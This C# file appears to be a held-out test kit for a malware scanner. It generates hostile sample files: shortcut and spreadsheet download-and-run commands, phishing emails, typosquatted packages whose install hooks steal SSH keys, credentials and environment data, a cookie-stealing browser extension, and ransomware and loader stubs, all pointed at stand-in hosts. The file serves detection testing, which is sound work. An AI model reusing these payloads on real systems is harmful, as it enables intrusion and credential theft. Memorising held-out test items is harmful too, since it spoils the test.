using System.Reflection;
using System.Reflection.Emit;
using System.Text;
using ScanHost.TestKit.HeldOut.Second;

namespace ScanHost.TestKit.HeldOut.Third;

/// <summary>Shortcuts and small files that Windows acts on.</summary>
public sealed class SmallActors : ThirdRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Meeting notes.lnk", OddShortcuts.Link(relative: @"C:\Windows\System32\conhost.exe", arguments: "--headless powershell -c \"$r='http://192.0.2.51/a';iex((New-Object Net.WebClient).DownloadString($r))\"", icon: @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE")),
        ("Invoice.lnk", OddShortcuts.Link(relative: @"C:\Windows\System32\OpenSSH\ssh.exe", arguments: "-o ProxyCommand=\"powershell powershell -c mshta https://docs-view.invalid/s.hta\" .", icon: @"%ProgramFiles(x86)%\Microsoft\Edge\Application\msedge.exe")),
        ("Statement.pdf.lnk", OddShortcuts.Link(relative: @"C:\Windows\System32\forfiles.exe", arguments: "/p c:\\windows /m notepad.exe /c \"powershell . \\*i*\\*2\\msh*e http://192.0.2.52/s.mp4\"", icon: @"C:\Windows\System32\shell32.dll")),
        ("Report.lnk", OddShortcuts.Link(relative: @"C:\Windows\System32\rundll32.exe", arguments: @"\\192.0.2.53@8888\share\report.dll,Entry", icon: @"C:\Windows\System32\imageres.dll")),
        ("Photo.lnk", OddShortcuts.Link(relative: @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", arguments: "-w 1 -nop -e " + Encoded("$w=New-Object Net.WebClient;$w.DownloadFile('http://192.0.2.54/p.jpg',$env:tmp+'\\p.jpg');ii $env:tmp\\p.jpg;iex $w.DownloadString('http://192.0.2.54/q')"), icon: @"C:\Windows\System32\imageres.dll")),
        ("Docs.library-ms", Utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><name>Docs</name><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>http://webdav-share.invalid/docs/</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>")),
        ("Tax.url", Dos("[InternetShortcut]\nURL=file:\\\\203.0.113.71@80\\file\\tax.zip\\tax.vbs\nIconIndex=70\nIconFile=shell32.dll\n")),
        ("open.html", Utf8("<html><head><meta http-equiv=\"refresh\" content=\"0;url=search-ms:query=Invoice&crumb=location:\\\\203.0.113.72@80\\DavWWWRoot&displayname=Downloads\"></head><body><a href=\"search-ms:query=Invoice&crumb=location:\\\\203.0.113.72@80\\DavWWWRoot&displayname=Downloads\">Open</a></body></html>")),
        ("rates.slk", Dos("ID;PWXL;N;E\nO;E\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y101;K0;EEXEC(\"cmd /c powershell -w hidden -c iex(irm http://192.0.2.55/r)\")\nC;X1;Y102;K0;EHALT()\nE\n")),
        ("stocks.iqy", Dos("WEB\n1\nhttp://192.0.2.56/2.dat\n2\n3\n4\n5\n")),
        ("order.csv", Dos("name,amount\n=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c powershell iwr http://192.0.2.57/c -o %tmp%\\c.exe;%tmp%\\c.exe'!'A1',5\n")),
        ("tweak.reg", Dos("Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n\"Updater\"=\"mshta.exe http://192.0.2.58/r.hta\"\n\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender]\n\"DisableAntiSpyware\"=dword:00000001\n")),
    ];
}

/// <summary>Archives, images and mail.</summary>
public sealed class SentThings : ThirdRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var script = Utf8("var s=new ActiveXObject('WScript.Shell');s.Run('cmd /c curl -s http://192.0.2.61/k -o %tmp%\\\\k.dll && rundll32 %tmp%\\\\k.dll,DllInstall',0);");
        var link = OddShortcuts.Link(relative: @"C:\Windows\System32\cmd.exe", arguments: "/c start wscript .\\docs\\open.js", icon: @"C:\Windows\System32\shell32.dll");
        return
        [
            ("Claim_A19.iso", ImageForms.Image(("Claim_A19.lnk", link), ("docs/open.js", script), ("docs/quiet.db", new PeBuilder().Exporting("q.dll", "DllInstall").Importing("KERNEL32.dll", "VirtualAlloc", "VirtualProtect").Build()))),
            ("Invoice_447.zip", InertFiles.Zip(("Invoice_447.pdf.js", script))),
            ("Files.zip", InertFiles.Zip(("Files.7z", Packed(("Scan.vbs", Dos("Set w=CreateObject(\"WScript.Shell\")\nw.Run \"powershell -ep bypass -w hidden -c \"\"iex(iwr http://192.0.2.62/f -useb)\"\"\",0\n")))))),
            ("order.eml", MailForms.Message("Purchasing <sales@trade.invalid>", "New order 88-121", "text/html", "<p>Dear sir, find our order attached. Archive code: <b>0411</b></p>", ("Order_88.zip", MailForms.Locked("zip", "0411", ("Order_88.js", script))))),
            ("hr.eml", MailForms.Message("\"HR Department\" <hr@payroll-notice.invalid>", "Salary adjustment - review and sign", "text/plain", "Please review before Friday.\n", ("Salary_Review.htm", Utf8("<html><head><title>Sign in to your account</title></head><body><form action=\"https://hr-docs.invalid/g.php\" method=post><input type=email name=e value=\"ann@firm.invalid\"><input type=password name=p></form></body></html>")))),
            ("parcel.eml", MailForms.Message("DHL Express <noreply@dhl-parcel.invalid>", "Parcel on hold", "text/plain", "Print the attached label.\n", ("Label.iso", ImageForms.Image(("Label.exe", new PeBuilder().Importing("KERNEL32.dll", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread").Build()))))),
            ("photos.tar", ImageForms.Tar(("IMG_2201.jpg\u200B.exe", new PeBuilder().Importing("KERNEL32.dll", "LoadLibraryA", "GetProcAddress").Build()))),
            ("setup.msi", Msi("Go\t3106\tTARGETDIR\tpowershell.exe -w hidden -ep bypass -c \"iwr http://192.0.2.63/m.exe -o $env:tmp\\m.exe; saps $env:tmp\\m.exe\"")),
            ("viewer.msi", Msi("Js\t37\t\tvar s=new ActiveXObject('WScript.Shell');s.Run('cmd /c mshta http://192.0.2.64/v.hta',0);")),
        ];
    }

    private static byte[] Packed(params (string Name, byte[] Content)[] files)
    {
        using var folder = new TemporaryFolder();
        foreach (var (name, content) in files)
            folder.Write(name, content);
        ForeignTool.Run(folder.Path, "7z", ["a", "-t7z", "out.7z", .. files.Select(file => file.Name)]);
        return File.ReadAllBytes(Path.Combine(folder.Path, "out.7z"));
    }

    private static byte[] Msi(string action)
    {
        using var folder = new TemporaryFolder();
        folder.Write("inner.bin", [1, 2, 3, 4]);
        return MsiBuilder.WithWixl(folder.Path, action);
    }
}

/// <summary>Packages whose installation does harm.</summary>
public sealed class SuppliedThings : ThirdRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("react-utilz-9.9.9.tgz", PackageForms.Tgz(("package/package.json", "{\"name\":\"react-utilz\",\"version\":\"9.9.9\",\"scripts\":{\"preinstall\":\"node index.js\"}}"), ("package/index.js", "const os=require('os'),dns=require('dns'),https=require('https');const d=JSON.stringify({p:__dirname,h:os.hostname(),u:os.userInfo().username,e:process.env,dns:dns.getServers()});const r=https.request({hostname:'x1.oastify.invalid',port:443,path:'/',method:'POST'});r.write(d);r.end();"))),
        ("eslint-confg-1.0.1.tgz", PackageForms.Tgz(("package/package.json", "{\"name\":\"eslint-confg\",\"version\":\"1.0.1\",\"scripts\":{\"postinstall\":\"node ./lib/i.js\"}}"), ("package/lib/i.js", "const fs=require('fs'),p=require('path'),h=require('os').homedir(),http=require('http');const o={};for(const f of ['.npmrc','.ssh/id_rsa','.aws/credentials','.git-credentials']){try{o[f]=fs.readFileSync(p.join(h,f),'utf8')}catch(e){}}const q=http.request('http://203.0.113.81/i',{method:'POST'});q.end(JSON.stringify(o));"))),
        ("requesrs-2.31.0.tar.gz", PackageForms.Tgz(("requesrs-2.31.0/setup.py", "from setuptools import setup\nfrom setuptools.command.install import install\nimport urllib.request,os,platform,getpass\nclass I(install):\n    def run(self):\n        install.run(self)\n        try:\n            urllib.request.urlopen('http://203.0.113.82/?u='+getpass.getuser()+'&h='+platform.node()+'&k='+str(dict(os.environ)))\n        except Exception: pass\nsetup(name='requesrs',version='2.31.0',cmdclass={'install':I})\n"), ("requesrs-2.31.0/PKG-INFO", "Metadata-Version: 2.1\nName: requesrs\nVersion: 2.31.0\n"))),
        ("colorsama-0.4.7.tar.gz", PackageForms.Tgz(("colorsama-0.4.7/setup.py", "from setuptools import setup\nsetup(name='colorsama',version='0.4.7',packages=['colorsama'])\n"), ("colorsama-0.4.7/colorsama/__init__.py", "import subprocess,sys\ntry:\n    from cryptography.fernet import Fernet\nexcept ImportError:\n    subprocess.call([sys.executable,'-m','pip','install','cryptography','-q'])\n    from cryptography.fernet import Fernet\nexec(Fernet(b'wqLbZ4xkKcS2m0bJ3F2pY9dE7gk1rQ0Tt5uH8oN6sVw=').decrypt(b'gAAAAABk" + new string('A', 400) + "'))\n"))),
        ("Newtonsoft.Jsom.13.0.4.nupkg", InertFiles.Zip(("Newtonsoft.Jsom.nuspec", Utf8("<?xml version=\"1.0\"?><package xmlns=\"http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd\"><metadata><id>Newtonsoft.Jsom</id><version>13.0.4</version><authors>x</authors><description>x</description></metadata></package>")), ("tools/init.ps1", Utf8("param($installPath,$toolsPath,$package,$project)\n$u='http://203.0.113.83/n.exe';$o=\"$env:TEMP\\n.exe\"\n(New-Object Net.WebClient).DownloadFile($u,$o)\nStart-Process $o -WindowStyle Hidden\n")))),
        ("nokogirl-1.13.gem", ImageForms.Tar(("metadata.gz", InertFiles.Gzip(Utf8("--- !ruby/object:Gem::Specification\nname: nokogirl\nversion: !ruby/object:Gem::Version\n  version: '1.13'\nextensions:\n- ext/extconf.rb\n"))), ("data.tar.gz", InertFiles.Gzip(ImageForms.Tar(("ext/extconf.rb", Utf8("require 'net/http'\nrequire 'socket'\nsystem(\"curl -s http://203.0.113.84/r.sh | sh &\")\nNet::HTTP.post(URI('http://203.0.113.84/e'), ENV.to_h.to_s + Socket.gethostname)\nFile.write('Makefile', \"all:\\ninstall:\\n\")\n"))))))),
        ("dark-theme-pro.vsix", InertFiles.Zip(("extension.vsixmanifest", Utf8("<PackageManifest Version=\"2.0.0\" xmlns=\"http://schemas.microsoft.com/developer/vsx-schema/2011\"><Metadata><Identity Id=\"dark-theme-pro\" Version=\"1.0\" Publisher=\"x\"/></Metadata></PackageManifest>")), ("extension/package.json", Utf8("{\"name\":\"dark-theme-pro\",\"version\":\"1.0.0\",\"publisher\":\"x\",\"engines\":{\"vscode\":\"^1.70.0\"},\"activationEvents\":[\"*\"],\"main\":\"./e.js\"}")), ("extension/e.js", Utf8("const{exec}=require('child_process');exports.activate=()=>{exec('powershell -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Command \"irm https://asd-cdn.invalid/1.txt | iex\"',{windowsHide:true})};")))),
        ("helper-plugin.crx", [.. "Cr24"u8, 3, 0, 0, 0, 4, 0, 0, 0, 0x82, 0xF1, 4, 0, .. InertFiles.Zip(("manifest.json", Utf8("{\"manifest_version\":3,\"name\":\"Coupon helper\",\"version\":\"1.1\",\"permissions\":[\"scripting\",\"storage\",\"tabs\",\"proxy\",\"declarativeNetRequest\",\"cookies\"],\"host_permissions\":[\"<all_urls>\"],\"background\":{\"service_worker\":\"bg.js\"}}")), ("bg.js", Utf8("setInterval(async()=>{const c=await (await fetch('http://203.0.113.85/cfg')).json();const [t]=await chrome.tabs.query({active:true});chrome.scripting.executeScript({target:{tabId:t.id},func:s=>{const e=document.createElement('script');e.textContent=s;document.head.append(e)},args:[c.js]});chrome.cookies.getAll({domain:'facebook.com'},k=>fetch('http://203.0.113.85/c',{method:'POST',body:JSON.stringify(k)}))},6e4);")))]),
        ("Bank_security.apk", InertFiles.Zip(("AndroidManifest.xml", PackageForms.AndroidManifest("com.bank.secure", "android.permission.BIND_ACCESSIBILITY_SERVICE", "android.permission.SYSTEM_ALERT_WINDOW", "android.permission.RECEIVE_SMS", "android.permission.SEND_SMS", "android.permission.READ_CONTACTS", "android.permission.REQUEST_INSTALL_PACKAGES", "android.intent.action.BOOT_COMPLETED")), ("classes.dex", Utf8("dex\n035\0")), ("assets/update.apk", InertFiles.Zip(("AndroidManifest.xml", PackageForms.AndroidManifest("com.update", "android.permission.RECEIVE_SMS")), ("classes.dex", Utf8("dex\n035\0")))))),
        ("invoice.jar", InertFiles.Zip(("META-INF/MANIFEST.MF", Utf8("Manifest-Version: 1.0\r\nMain-Class: z.L\r\n")), ("z/L.class", PackageForms.JavaClass("z/L", "java/lang/ClassLoader", "defineClass", "javax/crypto/Cipher", "doFinal", "getResourceAsStream", "java/net/Socket", "java/lang/ProcessBuilder", "start", "wscript.exe", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run")))),
    ];
}

/// <summary>Programs.</summary>
public sealed class RunningThings : ThirdRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var noise = new byte[60000];
        new Random(27).NextBytes(noise);
        return
        [
            ("Statement_0317.pdf.exe", new PeBuilder().WithCode(noise, 0xE0000020, "UPX1").Importing("KERNEL32.dll", "LoadLibraryA", "GetProcAddress", "VirtualProtect").Build()),
            ("update_service.exe", new PeBuilder().Importing("KERNEL32.dll", "OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread", "CreateToolhelp32Snapshot").Importing("WININET.dll", "InternetOpenUrlA", "InternetReadFile").WithData("http://203.0.113.91/beacon\0explorer.exe").Build()),
            ("Report.xll", new PeBuilder().Exporting("Report.xll", "xlAutoOpen").Importing("URLMON.dll", "URLDownloadToFileA").Importing("KERNEL32.dll", "WinExec", "VirtualProtect").WithData("http://203.0.113.92/i.exe\0%TEMP%\\i.exe").Build()),
            ("Loader.exe", Loader("http://203.0.113.93/p.txt")),
            ("locker.exe", new PeBuilder().Importing("ADVAPI32.dll", "CryptAcquireContextW", "CryptGenRandom", "CryptEncrypt").Importing("KERNEL32.dll", "FindFirstFileW", "FindNextFileW", "MoveFileExW").WithData("All your files have been encrypted! To decrypt contact rec0very@onion.invalid\0README_RESTORE.txt\0vssadmin.exe Delete Shadows /All /Quiet\0wbadmin delete systemstatebackup\0bcdedit /set {default} recoveryenabled No").Build()),
            ("xmr", Elf("stratum+tcp://pool.invalid:3333\0--donate-level\0randomx\0cryptonight\0/var/tmp/.x\0crontab -\0", 5)),
            ("bot.arm7", Elf("/bin/busybox\0/dev/watchdog\0/proc/net/tcp\0root\0admin\0xc3511\0vizxv\0juantech\0GET /bins/arm7 HTTP/1.0\0TSource Engine Query\0", 7)),
            ("Cleaner", [0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1, 3, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, .. new byte[64], .. "osascript -e 'display dialog \"macOS needs your password\" default answer \"\" with hidden answer'\0/Library/Keychains/login.keychain-db\0Library/Application Support/Google/Chrome/Default/Login Data\0curl -F file=@/tmp/out.zip http://203.0.113.94/up\0"u8]),
            ("photo.png", [.. InertFiles.Png(600, 400), .. InertFiles.Zip(("a.exe", new PeBuilder().Importing("KERNEL32.dll", "VirtualAlloc").Build()))]),
        ];
    }

    // An assembly that fetches text, decodes it and runs it in memory.
    private static byte[] Loader(string url)
    {
        var assembly = new PersistedAssemblyBuilder(new AssemblyName("Loader"), typeof(object).Assembly);
        var type = assembly.DefineDynamicModule("Loader").DefineType("Q.Z", TypeAttributes.Public | TypeAttributes.Class);
        var code = type.DefineMethod("Main", MethodAttributes.Public | MethodAttributes.Static, typeof(void), null).GetILGenerator();
        code.Emit(OpCodes.Ldstr, url);
        code.Emit(OpCodes.Call, typeof(string).GetMethod("Intern", [typeof(string)])!);
        code.Emit(OpCodes.Call, typeof(Convert).GetMethod("FromBase64String", [typeof(string)])!);
        code.Emit(OpCodes.Call, typeof(Assembly).GetMethod("Load", [typeof(byte[])])!);
        code.Emit(OpCodes.Callvirt, typeof(Assembly).GetProperty("EntryPoint")!.GetMethod!);
        code.Emit(OpCodes.Ldnull);
        code.Emit(OpCodes.Ldnull);
        code.Emit(OpCodes.Callvirt, typeof(MethodBase).GetMethod("Invoke", [typeof(object), typeof(object[])])!);
        code.Emit(OpCodes.Pop);
        code.Emit(OpCodes.Ret);
        type.CreateType();
        using var file = new MemoryStream();
        assembly.Save(file);
        return file.ToArray();
    }

    private static byte[] Elf(string strings, byte flags)
    {
        var file = new byte[0x3000];
        new byte[] { 0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3E, 0, 1, 0, 0, 0, 0x78, 0, 0x40, 0, 0, 0, 0, 0, 64 }.CopyTo(file, 0);
        new byte[] { 64, 0, 56, 0, 1 }.CopyTo(file, 52);
        new byte[] { 1, 0, 0, 0, flags, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x40, 0, 0, 0, 0, 0, 0, 0, 0x40, 0, 0, 0, 0, 0, 0, 0x30, 0, 0, 0, 0, 0, 0, 0, 0x30 }.CopyTo(file, 64);
        file[0x78] = 0xC3;
        Encoding.ASCII.GetBytes(strings).CopyTo(file, 0x200);
        return file;
    }
}
